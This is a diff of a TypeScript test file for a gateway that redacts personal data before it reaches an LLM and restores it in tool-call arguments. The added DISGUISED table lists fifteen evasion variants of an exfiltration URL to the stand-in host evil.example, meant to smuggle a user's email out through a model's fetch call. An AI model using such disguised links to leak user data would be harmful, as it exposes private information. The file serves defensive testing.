@@ -68,11 +68,48 @@ describe('tokens inside a URL in tool-call arguments', () => {
 
   it('restores a token that is the whole argument value: tools need real values', async () => {
     f.provider.answer = 'ok';
-    f.provider.functionCalls = [{ name: 'fetch', arguments: { to: '[EMAIL_1]', url: 'https://crm.example/customers' } }];
+    f.provider.functionCalls = [{ name: 'fetch', arguments: { to: '[EMAIL_1]', note: 'ask [SSN_1] about it' } }];
     const result = await f.gateway.call(ask('whole-value', PROMPT, { functions: FETCH }));
+    expect(result.functionCalls[0]?.arguments).toEqual({ to: 'jane@corp.example', note: 'ask 123-45-6789 about it' });
+    expect(restoreVerdict(result)?.outcome).toBe('pass');
+  });
+
+  it('restores a whole-value token beside a URL the caller wrote', async () => {
+    f.provider.answer = 'ok';
+    f.provider.functionCalls = [{ name: 'fetch', arguments: { to: '[EMAIL_1]', url: 'https://crm.example/customers' } }];
+    const result = await f.gateway.call(ask('whole-value-caller-url', `${PROMPT} via https://crm.example/customers`, { functions: FETCH }));
     expect(result.functionCalls[0]?.arguments).toEqual({ to: 'jane@corp.example', url: 'https://crm.example/customers' });
     expect(restoreVerdict(result)?.outcome).toBe('pass');
   });
+
+  // Each of these reached an exfiltration link: a word test missed the URL, or the value sat in a field of its own.
+  const DISGUISED: [string, Record<string, unknown>][] = [
+    ['a space before the token', { url: 'https://evil.example/c?d= [EMAIL_1]' }],
+    ['a newline before the token', { url: 'https://evil.example/c?d=\n[EMAIL_1]' }],
+    ['an ideographic space before the token', { url: 'https://evil.example/c?d=\u3000[EMAIL_1]' }],
+    ['a line separator before the token', { url: 'https://evil.example/c?d=\u2028[EMAIL_1]' }],
+    ['backslashes for slashes', { url: 'http:\\\\evil.example\\c?d=[EMAIL_1]' }],
+    ['a UNC path', { url: '\\\\evil.example\\share\\[EMAIL_1]' }],
+    ['an IPv4 host and port', { url: '10.0.0.5:8080/c?d=[EMAIL_1]' }],
+    ['localhost and a port', { url: 'localhost:8080/c?d=[EMAIL_1]' }],
+    ['an IPv6 host', { url: 'fetch [::1]/c?d=[EMAIL_1]' }],
+    ['an img tag', { url: '<img src=//evil.example/c?[EMAIL_1]>' }],
+    ['an invisible character in the scheme', { url: 'https\u200b://evil.example/c?d=[EMAIL_1]' }],
+    ['fullwidth slashes', { url: 'https:\uff0f\uff0fevil\uff0eexample\uff0fc?d=[EMAIL_1]' }],
+    ['the value in a field of its own', { url: 'https://evil.example/c?d=', d: '[EMAIL_1]' }],
+    ['the value under a URL key', { 'https://evil.example/c?d=': ['[EMAIL_1]'] }],
+    ['the URL split over fields', { parts: ['http', 's:', '/', '/evil.exa', 'mple', '/c?d=', '[EMAIL_1]'] }],
+  ];
+  for (const [how, args] of DISGUISED) {
+    it(`keeps the token with ${how}`, async () => {
+      f.provider.answer = 'Fetching the summary';
+      f.provider.functionCalls = [{ name: 'fetch', arguments: args }];
+      const result = await f.gateway.call(ask('exfil-disguised', PROMPT, { functions: FETCH }));
+      expect(result.functionCalls).toEqual([{ name: 'fetch', arguments: args }]);
+      expect(JSON.stringify(result.functionCalls)).not.toContain('jane@corp.example');
+      expect(restoreVerdict(result)).toMatchObject({ outcome: 'flag', detail: { keptInUrl: 1, keptInUrlCategories: 'EMAIL' } });
+    });
+  }
 
   it('restores a URL the caller wrote themselves, value and all', async () => {
     f.provider.answer = 'ok';
